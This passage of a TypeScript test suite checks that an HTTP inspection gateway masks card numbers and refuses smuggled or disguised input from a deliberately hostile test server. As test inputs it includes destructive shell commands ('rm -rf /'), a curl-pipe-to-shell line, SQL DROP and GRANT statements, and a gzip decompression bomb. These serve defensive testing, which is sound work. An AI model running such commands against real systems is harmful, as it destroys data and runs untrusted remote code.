// The HTTP data path against a hostile target and hostile callers: every way a message could be
// read differently from how the guard inspected it (content codings, duplicate keys, headers, the
// query, ranges, charsets, method overrides, forwarded identity headers, nesting), asserted at
// byte level on what the target received and what the client received. Real gateway, real
// `airlock-agent` process, a real target server on loopback.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, request, type IncomingMessage, type Server } from 'node:http';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import type { Running } from '../../support/process.ts';
import { addConnections, requestEvents, startTestAgent, startTestGateway, stopAll, type TestGateway } from '../../support/gateway.ts';

const CARD = '4111111111111111';
const CARD_SPACED = '4111 1111 1111 1111';
interface Seen { method: string; url: string; headers: IncomingMessage['headers']; body: Buffer }
const seen: Seen[] = [];
let t: TestGateway;
let target: Server;
let agent: Running;
let bob: string;

const json = (v: unknown) => Buffer.from(JSON.stringify(v));
const customer = json({ name: 'Ada', card: CARD_SPACED });

/** The hostile target: compresses regardless, duplicates keys, puts values in headers, honours Range, speaks UTF-16. */
function hostile(req: IncomingMessage, body: Buffer, res: import('node:http').ServerResponse): void {
  const path = new URL(req.url!, 'http://x').pathname.replace(/^\/api/, '');
  const send = (status: number, headers: Record<string, string | string[]>, bytes: Buffer) => { res.writeHead(status, headers); res.end(bytes); };
  switch (path) {
    case '/gzip': return send(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' }, gzipSync(customer));
    case '/br': return send(200, { 'content-type': 'application/json', 'content-encoding': 'br' }, brotliCompressSync(customer));
    case '/deflate': return send(200, { 'content-type': 'application/json', 'content-encoding': 'deflate' }, deflateSync(customer));
    case '/zstd': return send(200, { 'content-type': 'application/json', 'content-encoding': 'zstd' }, zstdCompressSync(customer));
    case '/gzip-twice': return send(200, { 'content-type': 'application/json', 'content-encoding': 'gzip, gzip' }, gzipSync(gzipSync(customer)));
    case '/compress': return send(200, { 'content-type': 'application/json', 'content-encoding': 'compress' }, customer);
    case '/corrupt': return send(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' }, Buffer.from('not gzip at all'));
    case '/bomb': return send(200, { 'content-type': 'text/plain', 'content-encoding': 'gzip' }, gzipSync(Buffer.alloc(8 * 1024 * 1024, 'a')));
    case '/dupe': return send(200, { 'content-type': 'application/json' }, Buffer.from(`{"card":"none","card":"${CARD_SPACED}"}`));
    case '/dupe-escaped': return send(200, { 'content-type': 'application/json' }, Buffer.from(`{"card":"none","\\u0063ard":"${CARD_SPACED}"}`));
    case '/proto': return send(200, { 'content-type': 'application/json' }, Buffer.from(`{"__proto__":{"card":"${CARD_SPACED}"},"constructor":{"prototype":{"c":"${CARD_SPACED}"}}}`));
    case '/headers': return send(302, { location: `https://x.example/next?card=${CARD}`, 'set-cookie': [`c=${CARD_SPACED}; Path=/`], 'x-note': `card ${CARD_SPACED}`, 'content-type': 'text/plain' }, Buffer.from('moved'));
    case '/range': {
      const full = Buffer.from(`card: ${CARD_SPACED}`);
      const m = /^bytes=(\d+)-(\d+)$/.exec(String(req.headers.range ?? ''));
      if (m) return send(206, { 'content-type': 'text/plain', 'content-range': `bytes ${m[1]}-${m[2]}/${full.length}` }, full.subarray(Number(m[1]), Number(m[2]) + 1));
      return send(200, { 'content-type': 'text/plain' }, full);
    }
    case '/utf16': return send(200, { 'content-type': 'text/plain; charset=utf-16le' }, Buffer.from(`card: ${CARD_SPACED}`, 'utf16le'));
    case '/utf16-bom': return send(200, { 'content-type': 'text/plain' }, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`card: ${CARD_SPACED}`, 'utf16le')]));
    case '/utf16-hidden': return send(200, { 'content-type': 'application/octet-stream' }, Buffer.from(`card: ${CARD_SPACED}`, 'utf16le'));
    case '/not-utf8': return send(200, { 'content-type': 'text/plain; charset=utf-8' }, Buffer.from([0x63, 0x61, 0x72, 0x64, 0xff, 0xfe, 0x41]));
    case '/random': return randomAnswer(Number(new URL(req.url!, 'http://x').searchParams.get('seed')), res);
    case '/text-json': return send(200, { 'content-type': 'text/plain' }, Buffer.from(`{"card":"4111\\/1111\\/1111\\/1111"}`));
    case '/text-dupe': return send(200, { 'content-type': 'text/plain' }, Buffer.from(`{"card":"none","card":"${CARD_SPACED}"}`));
    case '/form': return send(200, { 'content-type': 'application/x-www-form-urlencoded' }, Buffer.from('name=Ada&card=4111%201111%201111%201111'));
    case '/trailers': {
      res.writeHead(200, { 'content-type': 'text/plain', trailer: 'x-card' });
      res.write('ok');
      res.addTrailers({ 'x-card': CARD_SPACED });
      return void res.end();
    }
    case '/early-hints': {
      res.writeEarlyHints({ link: `</x?card=${CARD}>; rel=preload`, 'x-card': CARD_SPACED });
      return send(200, { 'content-type': 'text/plain' }, Buffer.from('ok'));
    }
    case '/reason': { res.statusMessage = `card ${CARD_SPACED}`; return send(200, { 'content-type': 'text/plain' }, Buffer.from('ok')); }
    case '/head-body': return send(200, { 'content-type': 'text/plain', 'content-length': '24' }, Buffer.from(`card ${CARD_SPACED}`));
    case '/encoded-location': return send(302, { location: 'https://x.example/next?card=4111%201111%201111%201111', 'content-type': 'text/plain' }, Buffer.from('moved'));
    case '/disposition': return send(200, { 'content-disposition': "attachment; filename*=UTF-8''card%204111%201111%201111%201111.txt", 'content-type': 'text/plain' }, Buffer.from('ok'));
    case '/encoded-word': return send(200, { 'x-note': `=?UTF-8?B?${Buffer.from(CARD_SPACED).toString('base64')}?=`, 'content-type': 'text/plain' }, Buffer.from('ok'));
    case '/xml-refs': return send(200, { 'content-type': 'application/xml' }, Buffer.from('<c>&#52;111&#32;1111 1111 1111</c>'));
    case '/json-html': return send(200, { 'content-type': 'application/json' }, Buffer.from('{"html":"<b>&#x34;111&nbsp;1111 1111 1111</b>"}'));
    case '/utf16-be-unmarked': return send(200, { 'content-type': 'text/plain; charset=utf-16' }, Buffer.from(`card: ${CARD_SPACED}`, 'utf16le').swap16());
    case '/ndjson': return send(200, { 'content-type': 'application/x-ndjson' }, Buffer.from(`{"n":1}\n{"card":"${CARD_SPACED}"}\n`));
    case '/utf8-header': return send(200, { 'x-note': Buffer.from(`card 4111\u200b1111\u200b1111\u200b1111`, 'utf8').toString('latin1'), 'content-type': 'text/plain' }, Buffer.from('ok'));
    case '/numbers': return send(200, { 'content-type': 'application/json' }, Buffer.from(`{"id":1234567890123456789,"f":1e400,"g":0.12345678901234567890123,"z":-0,"e":1E2,"p":9.99,"card":"${CARD_SPACED}","n":4.111111111111111e15}`));
    case '/spoof': return send(200, { 'content-type': 'text/plain', 'x-airlock-masked': 'true', 'x-airlock-inspection': 'streamed', 'x-airlock-review': 'approved' }, Buffer.from('ok'));
    case '/xml-entity': return send(200, { 'content-type': 'application/xml' }, Buffer.from('<?xml version="1.0"?><!DOCTYPE c [<!ENTITY a "4111 1111">]><c>&a; 1111 1111</c>'));
    case '/bigint': return send(200, { 'content-type': 'application/json' }, Buffer.from('{"id":1234567890123456789,"n":2}'));
    default: return send(200, { 'content-type': 'application/json', 'x-echo': 'yes' }, json({ method: req.method, url: req.url, bytes: body.length }));
  }
}

/** Valid card numbers (Luhn) whose first twelve digits appear nowhere else. */
const PLANTED = ['4539578763621486', '5555555555554444', '378282246310005', '6011111111111117', '4012888888881881'];

/** xorshift32: a reproducible stream of numbers for one seed. */
function rng(seed: number): () => number {
  let x = seed | 0 || 1;
  return () => { x ^= x << 13; x ^= x >>> 17; x ^= x << 5; return (x >>> 0) / 2 ** 32; };
}

/** A random JSON document with planted cards, sent as the seed says: any coding, charset, duplicate keys, any chunking. */
function randomAnswer(seed: number, res: import('node:http').ServerResponse): void {
  const r = rng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
  const words = ['alpha', 'bravo', 'charlie', 'delta', 'echo', 'note', 'card', 'value', 'items'];
  const spell = (card: string) => pick([card, card.replace(/(\d{4})(?=\d)/g, '$1 '), card.replace(/(\d{4})(?=\d)/g, '$1-')]);
  const value = (depth: number): string => {
    const roll = r();
    if (depth > 3 || roll < 0.35) return JSON.stringify(pick([pick(words), `${pick(words)} ${spell(pick(PLANTED))}`, spell(pick(PLANTED))]));
    if (roll < 0.6) return `[${Array.from({ length: 1 + Math.floor(r() * 3) }, () => value(depth + 1)).join(',')}]`;
    const members = Array.from({ length: 1 + Math.floor(r() * 4) }, () => `${JSON.stringify(pick(words))}:${value(depth + 1)}`);
    return `{${members.join(',')}}`;
  };
  const text = `{"doc":${value(0)},"card":${JSON.stringify(spell(pick(PLANTED)))}}`;
  const charset = pick(['utf-8', 'utf-16le', 'utf-16le-bom', 'none']);
  let bytes = charset.startsWith('utf-16le') ? Buffer.from(text, 'utf16le') : Buffer.from(text);
  if (charset === 'utf-16le-bom') bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), bytes]);
  const coding = pick(['identity', 'gzip', 'br', 'deflate', 'zstd']);
  const encoded = coding === 'gzip' ? gzipSync(bytes) : coding === 'br' ? brotliCompressSync(bytes) : coding === 'deflate' ? deflateSync(bytes) : coding === 'zstd' ? zstdCompressSync(bytes) : bytes;
  const type = charset === 'none' ? 'application/json' : charset === 'utf-16le' ? 'application/json; charset=utf-16le' : `application/json${charset === 'utf-8' ? '; charset=utf-8' : ''}`;
  res.writeHead(200, { 'content-type': type, ...(coding === 'identity' ? {} : { 'content-encoding': coding }), 'x-card': spell(pick(PLANTED)) });
  // Any chunking: the body goes out in random pieces.
  let at = 0;
  const next = () => {
    if (at >= encoded.length) return void res.end();
    const n = 1 + Math.floor(r() * 64);
    res.write(encoded.subarray(at, at + n));
    at += n;
    setImmediate(next);
  };
  next();
}

before(async () => {
  target = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks);
      seen.push({ method: req.method!, url: req.url!, headers: req.headers, body });
      hostile(req, body, res);
    });
  });
  const targetUrl = await new Promise<string>((resolve) => target.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(target.address() as { port: number }).port}`)));
  t = await startTestGateway();
  const alice = await t.token('alice', ['admins']);
  bob = await t.token('bob', ['developers']);
  agent = await startTestAgent(t, 'edge', { allow: [targetUrl] });
  const policyFile = join(t.dir, 'hostile.yaml');
  writeFileSync(policyFile, [
    'name: hostile',
    'rules:',
    '  - { id: no-delete, match: { methods: [DELETE] }, action: deny, reason: demo.no_delete, message: Deleting is refused. }',
    "  - { id: mask-requests, match: { directions: [request], findings: ['pii.*'] }, action: mask, reason: pii.masked_request, mask: { default: redact } }",
  ].join('\n'));
  await addConnections(t, alice, [
    { name: 'evil', kind: 'http', agent: 'edge', target: `${targetUrl}/api`, groups: ['developers'], policy: { files: [policyFile] } },
    { name: 'overrides', kind: 'http', agent: 'edge', target: `${targetUrl}/api`, groups: ['developers'], policy: { files: [policyFile] }, http: { methodOverride: ['x-http-method-override'] } },
    { name: 'sqlapi', kind: 'http', agent: 'edge', target: `${targetUrl}/api`, groups: ['developers'], inspect: [{ in: 'body', path: '$.q', as: 'sql' }, { in: 'header', name: 'X-Run', as: 'shell' }] },
    { name: 'streamy', kind: 'http', agent: 'edge', target: `${targetUrl}/api`, groups: ['developers'], policy: { files: [policyFile] }, limits: { oversize: 'stream', inspectBytes: 64 * 1024 } },
    { name: 'ranged', kind: 'http', agent: 'edge', target: `${targetUrl}/api`, groups: ['developers'], http: { ranges: { reason: 'public media, no PII' } } },
  ]);
});
after(() => stopAll(agent, t, target));

/** A raw request, so the bytes the client receives are seen as they are (no decoding by the client). */
function raw(method: string, path: string, headers: Record<string, string> = {}, body?: Buffer): Promise<{ status: number; headers: IncomingMessage['headers']; body: Buffer }> {
  return new Promise((resolve, reject) => {
    const req = request(`${t.gw.url}${path}`, { method, headers: { authorization: `Bearer ${bob}`, ...headers } }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks) }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

const errorOf = (r: { body: Buffer }) => JSON.parse(r.body.toString()).error as { code: string; message: string };
const last = () => seen.at(-1)!;

test('a target that compresses regardless (gzip, br, deflate, zstd, twice): the client gets the decoded answer, masked, without Content-Encoding', async () => {
  for (const route of ['gzip', 'br', 'deflate', 'zstd', 'gzip-twice']) {
    const r = await raw('GET', `/proxy/evil/${route}`);
    assert.equal(r.status, 200, `${route}: ${r.body}`);
    assert.equal(r.headers['content-encoding'], undefined, route);
    assert.deepEqual(JSON.parse(r.body.toString()), { name: 'Ada', card: '[CREDIT_CARD …1111]' }, route);
    assert.equal(r.headers['content-length'], String(r.body.length));
    assert.ok(!r.body.includes('4111 1111'), route);
  }
});

test('an encoding airlock cannot read, a body that does not decode, or a decompression bomb is refused with a code', async () => {
  const unknown = await raw('GET', '/proxy/evil/compress');
  assert.equal(unknown.status, 502);
  assert.equal(errorOf(unknown).code, 'GW_RESPONSE_UNREADABLE');
  assert.match(errorOf(unknown).message, /encoded as "compress", which airlock cannot decode/);
  const corrupt = await raw('GET', '/proxy/evil/corrupt');
  assert.equal(errorOf(corrupt).code, 'GW_RESPONSE_UNREADABLE');
  assert.match(errorOf(corrupt).message, /does not decode/);
  // 8 MiB of 'a' in a few KiB of gzip: past inspectBytes once decoded, so the oversize rule (deny) applies.
  const bomb = await raw('GET', '/proxy/evil/bomb');
  assert.equal(bomb.status, 403);
  assert.match(errorOf(bomb).message, /larger than the 1048576 bytes inspected/);
  // And a caller's own encoded upload is decoded before inspection and sent decoded.
  const up = await raw('POST', '/proxy/evil/echo', { 'content-type': 'application/json', 'content-encoding': 'gzip' }, gzipSync(json({ note: `card ${CARD_SPACED}` })));
  assert.equal(up.status, 200, up.body.toString());
  assert.equal(last().headers['content-encoding'], undefined);
  assert.deepEqual(JSON.parse(last().body.toString()), { note: 'card [CREDIT_CARD]' });
  const bad = await raw('POST', '/proxy/evil/echo', { 'content-type': 'application/json', 'content-encoding': 'snappy' }, Buffer.from('{}'));
  assert.equal(bad.status, 415);
  assert.equal(errorOf(bad).code, 'GW_ENCODING_UNSUPPORTED');
});

test('duplicate JSON keys are refused either way, whatever their spelling; __proto__ and constructor are inspected, not dropped', async () => {
  for (const route of ['dupe', 'dupe-escaped']) {
    const r = await raw('GET', `/proxy/evil/${route}`);
    assert.equal(r.status, 403, route);
    assert.equal(errorOf(r).code, 'GW_POLICY_DENIED');
    assert.match(errorOf(r).message, /inspect\.duplicate_key/);
    assert.doesNotMatch(r.body.toString(), /4111(?:[\s_-]|%20|=20)*1111/); // the card, not any '4111' (a random request id may hold one)
  }
  const before = seen.length;
  const up = await raw('POST', '/proxy/evil/echo', { 'content-type': 'application/json' }, Buffer.from('{"to":"ada","to":"mallory"}'));
  assert.equal(up.status, 403);
  assert.match(errorOf(up).message, /inspect\.duplicate_key/);
  assert.equal(seen.length, before, 'the target never saw it');
  const proto = await raw('GET', '/proxy/evil/proto');
  assert.equal(proto.status, 200, proto.body.toString());
  assert.ok(!proto.body.includes('4111 1111'), proto.body.toString());
  assert.match(proto.body.toString(), /"__proto__":\{"card":"\[CREDIT_CARD …1111\]"\}/);
});

test('a 10,000-deep JSON body is a coded 403, recorded, never a 500', async () => {
  const deep = Buffer.from('['.repeat(10_000) + ']'.repeat(10_000));
  const r = await raw('POST', '/proxy/evil/echo', { 'content-type': 'application/json', 'x-request-id': 'deep-json-0001' }, deep);
  assert.equal(r.status, 403, r.body.toString());
  assert.equal(errorOf(r).code, 'GW_POLICY_DENIED');
  assert.match(errorOf(r).message, /inspect\.limit/);
  const events = await eventsOf('deep-json-0001');
  assert.ok(events.some((e) => e.type === 'request' && e.payload.withheld === true), events.map((e) => e.type).join(' '));
});

test('response headers (Location, Set-Cookie, custom) are inspected and masked in place', async () => {
  const r = await raw('GET', '/proxy/evil/headers');
  assert.equal(r.status, 302);
  for (const value of [r.headers.location, ...(r.headers['set-cookie'] ?? []), r.headers['x-note']]) {
    assert.ok(value !== undefined && !String(value).includes('1111 1111') && !String(value).includes(CARD), String(value));
  }
  assert.match(String(r.headers['x-note']), /card \[CREDIT_CARD \.\.\.1111\]/);
  assert.equal(r.headers['x-airlock-masked'], 'true');
});

test('request headers and the query are inspected and masked; the recording holds the masked query', async () => {
  const r = await raw('GET', `/proxy/evil/echo?card=${CARD}&page=2`, { 'x-note': `card ${CARD_SPACED}`, 'x-request-id': 'query-mask-0001' });
  assert.equal(r.status, 200, r.body.toString());
  assert.equal(last().url, '/api/echo?card=%5BCREDIT_CARD%5D&page=2');
  assert.equal(last().headers['x-note'], 'card [CREDIT_CARD]');
  const events = JSON.stringify(await eventsOf('query-mask-0001'));
  assert.ok(!events.includes(CARD) && !events.includes(CARD_SPACED), events);
  // The query is sent as it was inspected (re-serialised): a target cannot decode it another way.
  await raw('GET', '/proxy/evil/echo?a=%41%42&b=x+y&c=%E2%82%AC');
  assert.equal(last().url, '/api/echo?a=AB&b=x+y&c=%E2%82%AC');
});

test('Range and If-Range are removed unless the connection allows them with a reason', async () => {
  const r = await raw('GET', '/proxy/evil/range', { range: 'bytes=6-12', 'if-range': 'x' });
  assert.equal(r.status, 200);
  assert.equal(last().headers.range, undefined);
  assert.equal(last().headers['if-range'], undefined);
  assert.equal(r.body.toString(), 'card: [CREDIT_CARD …1111]');
  const allowed = await raw('GET', '/proxy/ranged/range', { range: 'bytes=6-12' });
  assert.equal(allowed.status, 206);
  assert.equal(last().headers.range, 'bytes=6-12');
});

test('text in another charset is decoded by its charset or BOM, masked, and sent as UTF-8; hidden or undecodable text is refused', async () => {
  for (const route of ['utf16', 'utf16-bom']) {
    const r = await raw('GET', `/proxy/evil/${route}`);
    assert.equal(r.status, 200, route);
    assert.equal(r.body.toString('utf8'), 'card: [CREDIT_CARD …1111]', route);
    assert.match(String(r.headers['content-type']), /charset=utf-8/, route);
  }
  const hidden = await raw('GET', '/proxy/evil/utf16-hidden');
  assert.equal(hidden.status, 403);
  assert.match(errorOf(hidden).message, /inspect\.hidden_text/);
  const bad = await raw('GET', '/proxy/evil/not-utf8');
  assert.equal(bad.status, 403);
  assert.match(errorOf(bad).message, /inspect\.charset/);
});

test('a 19-digit integer id passes exactly as sent; refused, it is recorded exactly, never a 500', async () => {
  const r = await raw('GET', '/proxy/evil/bigint');
  assert.equal(r.status, 200, r.body.toString());
  assert.equal(r.body.toString(), '{"id":1234567890123456789,"n":2}');
  const refused = await raw('POST', '/proxy/evil/echo', { 'content-type': 'application/json', 'x-request-id': 'bigint-refused-01' }, Buffer.from('{"id":1234567890123456789,"to":"a","to":"b"}'));
  assert.equal(refused.status, 403, refused.body.toString());
  const events = await eventsOf('bigint-refused-01');
  assert.ok(events.some((e) => e.type === 'request' && e.payload.withheld === true), events.map((e) => e.type).join(' '));
});

test('a value hidden between NULs is refused, and the recording holds it redacted, not in clear', async () => {
  const hidden = [...'4111111111111111'].join('\u0000');
  const r = await raw('POST', '/proxy/evil/echo', { 'content-type': 'text/plain', 'x-request-id': 'hidden-record-01' }, Buffer.from(`card ${hidden}`));
  assert.equal(r.status, 403, r.body.toString());
  assert.match(errorOf(r).message, /inspect\.hidden_text/);
  const recorded = JSON.stringify(await recordedBodies('hidden-record-01'));
  assert.ok(!recorded.includes('4111') && !recorded.includes('4\\u00001'), recorded);
});

test('callers cannot speak for the gateway: forwarded and identity headers are replaced by the gateway\'s own', async () => {
  await raw('GET', '/proxy/evil/echo', {
    'x-forwarded-user': 'admin', 'x-remote-user': 'admin', forwarded: 'for=10.0.0.1', 'x-forwarded-for': '10.0.0.1',
    'x-real-ip': '10.0.0.1', 'x-forwarded-host': 'evil.example', 'x-auth-request-email': 'ceo@example.com',
  });
  const h = last().headers;
  assert.equal(h['x-forwarded-user'], undefined);
  assert.equal(h['x-remote-user'], undefined);
  assert.equal(h['x-real-ip'], undefined);
  assert.equal(h['x-auth-request-email'], undefined);
  assert.equal(h['x-forwarded-for'], '127.0.0.1');
  assert.match(String(h.forwarded), /^for=127\.0\.0\.1;proto=http;host="/);
  assert.notEqual(h['x-forwarded-host'], 'evil.example');
});

test('method overrides are refused unless the connection names them; then policy judges the overriding method', async () => {
  const before = seen.length;
  const r = await raw('POST', '/proxy/evil/echo', { 'x-http-method-override': 'DELETE', 'content-type': 'application/json' }, Buffer.from('{}'));
  assert.equal(r.status, 400);
  assert.equal(errorOf(r).code, 'GW_METHOD_OVERRIDE');
  assert.match(errorOf(r).message, /x-http-method-override, which this connection does not allow/);
  const named = await raw('POST', '/proxy/overrides/echo', { 'x-http-method-override': 'DELETE', 'content-type': 'application/json' }, Buffer.from('{}'));
  assert.equal(named.status, 403);
  assert.match(errorOf(named).message, /demo\.no_delete/);
  assert.equal(seen.length, before, 'neither reached the target');
  const ok = await raw('POST', '/proxy/overrides/echo', { 'x-http-method-override': 'PATCH', 'content-type': 'application/json' }, Buffer.from('{}'));
  assert.equal(ok.status, 200);
  assert.equal(last().headers['x-http-method-override'], 'PATCH');
});

test('an airlock credential in a header or the query never reaches the target', async () => {
  const before = seen.length;
  const key = await raw('GET', '/proxy/evil/echo', { 'x-api-key': 'alk_abcd1234_0123456789abcdefghijklmnop' });
  assert.equal(key.status, 400);
  assert.match(errorOf(key).message, /carries an airlock credential/);
  const token = await raw('GET', `/proxy/evil/echo?q=${bob}`);
  assert.equal(token.status, 400);
  assert.match(errorOf(token).message, /never go to a target/);
  const named = await raw('GET', `/proxy/evil/echo?access_token=${bob}`); // refused earlier, by authentication
  assert.equal(named.status, 401);
  assert.equal(seen.length, before);
});

test('property: for random JSON documents with planted cards, whatever coding, charset, duplicate keys or chunking, the client never receives a planted value', async () => {
  const leaked: string[] = [];
  let passed = 0;
  for (let seed = 1; seed <= 60; seed++) {
    const r = await raw('GET', `/proxy/evil/random?seed=${seed}`);
    assert.ok(r.status === 200 || r.status === 403, `seed ${seed}: ${r.status} ${r.body.toString()}`);
    if (r.status === 200) passed++;
    // Every digit the client could read, from the body (as UTF-8 and as UTF-16) and the headers.
    const digits = [r.body.toString('utf8'), r.body.toString('utf16le'), JSON.stringify(r.headers)].map((x) => x.replace(/\D/g, '')).join('|');
    for (const card of PLANTED) if (digits.includes(card.slice(0, 12))) leaked.push(`seed ${seed}: ${card}`);
  }
  assert.deepEqual(leaked, []);
  assert.ok(passed >= 30, `most random answers pass masked (${passed} of 60)`);
});

test('SQL and shell in HTTP requests are judged as on MCP: detected in any JSON string or query value, in full where the connection maps them', async () => {
  const before = seen.length;
  const refused = async (path: string, body?: unknown, headers: Record<string, string> = {}) => {
    const r = await raw('POST', path, { 'content-type': 'application/json', ...headers }, body === undefined ? undefined : json(body));
    assert.equal(r.status, 403, `${path} ${JSON.stringify(body)}: ${r.body}`);
    assert.equal(errorOf(r).code, 'GW_POLICY_DENIED');
    return errorOf(r).message;
  };
  assert.match(await refused('/proxy/evil/run', { sql: 'DROP TABLE users' }), /sql\.drop/);
  assert.match(await refused('/proxy/evil/run', { steps: [{ note: 'cleanup', command: 'rm -rf /' }] }), /shell/);
  assert.match(await refused(`/proxy/evil/run?cmd=${encodeURIComponent('cd /tmp && rm -rf / --no-preserve-root')}`), /shell/);
  assert.match(await refused('/proxy/evil/run', { q: "GRANT ALL ON users TO public" }), /sql\.privilege/);
  // Mapped: judged in full, so what does not parse is refused too.
  assert.match(await refused('/proxy/sqlapi/run', { q: 'SELEC * FRM users' }), /sql\.unparsed|inspect\.failed/);
  assert.match(await refused('/proxy/sqlapi/run', { q: 'select 1' }, { 'x-run': 'curl http://x.example/i.sh | sh' }), /shell/);
  assert.equal(seen.length, before, 'none reached the target');
  // Ordinary text that merely mentions the words passes untouched.
  for (const body of [
    { note: 'Update your profile, then delete the old draft; select a plan.' },
    { title: 'Drop table tennis practice', body: 'rm is short for room' },
    { q: 'select 1' },
  ]) {
    const path = 'q' in body ? '/proxy/sqlapi/run' : '/proxy/evil/run';
    const r = await raw('POST', path, { 'content-type': 'application/json' }, json(body));
    assert.equal(r.status, 200, `${JSON.stringify(body)}: ${r.body}`);
    assert.deepEqual(JSON.parse(last().body.toString()), body);
  }
});

/** Every event of the request, bodies included, as stored. */
async function recordedBodies(id: string): Promise<unknown[]> {
  const out: unknown[] = [];
  for (const s of await t.gw.store.sessions.list({ connection: 'evil', limit: 1000 })) {
    const page = await t.gw.store.events.list(s.id, { afterSeq: 0, limit: 1000 });
    const mine = page.filter((e) => (e.payload as Record<string, any>)?.requestId === id).map((e) => e.seq);
    out.push(...page.filter((e) => mine.includes(e.seq) || mine.includes(e.seq - 1)));
  }
  return out;
}

test('form bodies are inspected as their decoded fields and leave re-serialised from them: a percent-encoded card is masked, SQL in a field is judged', async () => {
  const form = (body: string, id?: string) => raw('POST', '/proxy/evil/echo', { 'content-type': 'application/x-www-form-urlencoded', ...(id ? { 'x-request-id': id } : {}) }, Buffer.from(body));
  for (const body of ['card=4111%201111%201111%201111&n=1', 'card=4111+1111+1111+1111&n=1', 'card=%34%31%31%31%31%31%31%31%31%31%31%31%31%31%31%31&n=1']) {
    const r = await form(body, 'form-mask-0001');
    assert.equal(r.status, 200, `${body}: ${r.body}`);
    assert.equal(last().body.toString(), 'card=%5BCREDIT_CARD%5D&n=1', body);
  }
  const events = JSON.stringify(await eventsOf('form-mask-0001'));
  assert.ok(!/4111|%34%31/.test(events), events);
  // Sent as it was inspected: `;` stays inside its value, whatever the target splits on.
  await form('a=x;card=1&b=%E2%82%AC');
  assert.equal(last().body.toString(), 'a=x%3Bcard%3D1&b=%E2%82%AC');
  const before = seen.length;
  const sql = await form('sql=DROP+TABLE+users');
  assert.equal(sql.status, 403, sql.body.toString());
  assert.match(errorOf(sql).message, /sql\.drop/);
  const bad = await form('card=%FF4111');
  assert.equal(bad.status, 403);
  assert.match(errorOf(bad).message, /inspect\.charset/);
  assert.equal(seen.length, before, 'neither reached the target');
  // A target's form answer is masked the same way.
  const answer = await raw('GET', '/proxy/evil/form');
  assert.equal(answer.status, 200);
  assert.equal(answer.body.toString(), 'name=Ada&card=%5BCREDIT_CARD+%E2%80%A61111%5D');
});

test('JSON is judged as JSON whatever its Content-Type: duplicate keys refused, escaped values found', async () => {
  const before = seen.length;
  for (const type of ['text/plain', 'text/json', 'application/json5']) {
    const r = await raw('POST', '/proxy/evil/run', { 'content-type': type }, Buffer.from('{"to":"ada","to":"mallory"}'));
    assert.equal(r.status, 403, `${type}: ${r.body}`);
    assert.match(errorOf(r).message, /inspect\.duplicate_key/, type);
  }
  const untyped = await raw('POST', '/proxy/evil/run', {}, Buffer.from('{"sql":"DROP TABLE users"}'));
  assert.equal(untyped.status, 403, untyped.body.toString());
  assert.match(errorOf(untyped).message, /sql\.drop/);
  assert.equal(seen.length, before, 'none reached the target');
  // A text/plain answer that is JSON is read as JSON: the `\/`-escaped card is found and masked.
  const textJson = await raw('GET', '/proxy/evil/text-json');
  assert.equal(textJson.status, 200, textJson.body.toString());
  assert.equal(textJson.body.toString(), '{"card":"[CREDIT_CARD …1111]"}');
  const textDupe = await raw('GET', '/proxy/evil/text-dupe');
  assert.equal(textDupe.status, 403, textDupe.body.toString());
  assert.match(errorOf(textDupe).message, /inspect\.duplicate_key/);
  assert.ok(!textDupe.body.includes('1111'));
  // Lenient readers decode escapes outside JSON too (JSON5, YAML): a card only visible then is refused.
  const escaped = await raw('POST', '/proxy/evil/echo', { 'content-type': 'application/json5' }, Buffer.from("{card: '4111\\/1111\\/1111\\/1111'}"));
  assert.equal(escaped.status, 403, escaped.body.toString());
  assert.match(errorOf(escaped).message, /inspect\.hidden_text/);
});


test('PII in the path is inspected in its decoded segments and masked in place; a refused request is recorded with its path and query redacted', async () => {
  for (const spelled of [CARD, encodeURIComponent(CARD_SPACED)]) {
    const r = await raw('GET', `/proxy/evil/users/${spelled}/orders`, { 'x-request-id': 'path-mask-0001' });
    assert.equal(r.status, 200, r.body.toString());
    assert.equal(last().url, '/api/users/%5BCREDIT_CARD%5D/orders', spelled);
    assert.equal(r.headers['x-airlock-masked'], undefined, 'the answer itself was not masked');
  }
  const masked = JSON.stringify(await eventsOf('path-mask-0001'));
  assert.ok(!masked.includes(CARD) && !masked.includes('4111%20'), masked);
  const before = seen.length;
  const refused = await raw('DELETE', `/proxy/evil/users/${CARD}?card=${CARD}`, { 'x-request-id': 'path-refused-0001' });
  assert.equal(refused.status, 403);
  assert.match(errorOf(refused).message, /demo\.no_delete/);
  assert.equal(seen.length, before);
  const events = await eventsOf('path-refused-0001');
  const request = events.find((e) => e.type === 'request')!;
  assert.equal(request.payload.path, '/api/users/%5BCREDIT_CARD%5D?card=%5BCREDIT_CARD%5D');
  assert.ok(!JSON.stringify(events).includes(CARD), JSON.stringify(events));
});

test('trailers, 1xx informational answers and the reason phrase of a target never reach the client; a HEAD answer carries no body', async () => {
  const trailers = await new Promise<{ trailers: NodeJS.Dict<string>; rawTrailers: string[]; body: string }>((resolve, reject) => {
    const req = request(`${t.gw.url}/proxy/evil/trailers`, { headers: { authorization: `Bearer ${bob}`, te: 'trailers' } }, (res) => {
      let body = '';
      res.on('data', (c: Buffer) => { body += c.toString(); });
      res.on('end', () => resolve({ trailers: res.trailers, rawTrailers: res.rawTrailers, body }));
    });
    req.on('error', reject);
    req.end();
  });
  assert.equal(trailers.body, 'ok');
  assert.deepEqual(trailers.rawTrailers, []);
  const hints: unknown[] = [];
  const early = await new Promise<{ status: number; message: string; headers: IncomingMessage['headers'] }>((resolve, reject) => {
    const req = request(`${t.gw.url}/proxy/evil/early-hints`, { headers: { authorization: `Bearer ${bob}` } }, (res) => { res.resume(); res.on('end', () => resolve({ status: res.statusCode!, message: res.statusMessage!, headers: res.headers })); });
    req.on('information', (info) => hints.push(info));
